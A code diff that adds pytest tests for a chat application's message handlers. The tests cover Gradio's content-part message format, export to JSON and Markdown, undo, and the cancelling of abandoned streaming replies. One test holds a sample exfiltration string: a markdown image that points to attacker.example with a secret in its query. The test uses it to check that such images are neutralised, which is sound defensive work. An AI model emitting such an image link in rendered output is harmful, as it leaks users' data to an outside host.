@@ -186,3 +186,60 @@ def test_the_thinking_switch_needs_a_thinking_model_and_a_persona_that_allows_it
     )
     assert _thinking_allowed(qwen3, "en-neutral-assistant")
     assert not _thinking_allowed(qwen3, "ja-hotel-concierge")  # the persona keeps it off
+
+
+def as_gradio(messages: list[dict[str, object]]) -> list[dict[str, object]]:
+    """Messages as Gradio 6's Chatbot hands them to a handler: content is a list of parts."""
+    return [
+        {
+            "role": m["role"],
+            "metadata": m.get("metadata"),
+            "content": [{"text": m["content"], "type": "text"}],
+            "options": None,
+        }
+        for m in messages
+    ]
+
+
+def test_messages_in_gradios_content_part_form_are_read_as_text(backend: Backend) -> None:
+    views, _ = ask(backend, "parts-1", "一つ目の質問です。")
+    shown = as_gradio([*views[-1], {"role": "user", "content": "二つ目の質問です。"}])
+    final = list(handlers.respond(backend, "parts-1", shown, "ja-hotel-concierge"))[-1]
+    chat = backend.sessions.get("parts-1").chat
+    assert chat is not None
+    # The model is asked the text itself, with the earlier turn kept as history.
+    assert [t.user for t in chat.conversation.turns] == ["一つ目の質問です。", "二つ目の質問です。"]
+    assert all(isinstance(m["content"], str) for m in final)
+
+    text, before = handlers.take_last_message(shown)
+    assert text == "二つ目の質問です。" and len(before) == len(shown) - 1
+    assert handlers.undo_last_reply(as_gradio(final))[-1]["content"] == "二つ目の質問です。"
+    assert [m["content"] for m in handlers.dialogue(shown)][1] == "一つ目の質問です。"
+
+    data = json.loads(handlers.export_json(as_gradio(final), "ja-hotel-concierge"))
+    assert all(isinstance(m["content"], str) for m in data["messages"])
+    assert data["messages"][1] == {"role": "user", "content": "一つ目の質問です。"}
+    md = handlers.export_markdown(as_gradio(final), "ja-hotel-concierge")
+    assert "**You**: 二つ目の質問です。" in md and "'text'" not in md
+
+
+def test_markdown_images_in_messages_are_not_loaded() -> None:
+    attack = "look ![pixel](http://attacker.example/p.png?q=secret) and ![r][ref]"
+    shown = handlers.inert(attack)
+    assert "![" not in shown  # no image syntax left: nothing is fetched
+    assert handlers.plain(shown) == attack
+
+
+def test_an_abandoned_reply_stops_and_leaves_the_screen_alone(backend: Backend) -> None:
+    long = Backend(
+        engine=backend.engine,
+        registry=backend.registry,
+        settings=Settings(sampling=Sampling(max_tokens=400), enforce_register=False),
+    )
+    messages = [{"role": "user", "content": "Tell me everything."}]
+    turn = Turn()
+    stream = handlers.respond(long, "abandoned", messages, "en-neutral-assistant", turn=turn)
+    next(stream)
+    handlers.abandon(long, "abandoned")  # Clear, a new persona, Edit or Regenerate
+    assert list(stream) == []  # not even a final view over what replaced it
+    assert turn.done is None or turn.done.completion_tokens < 400
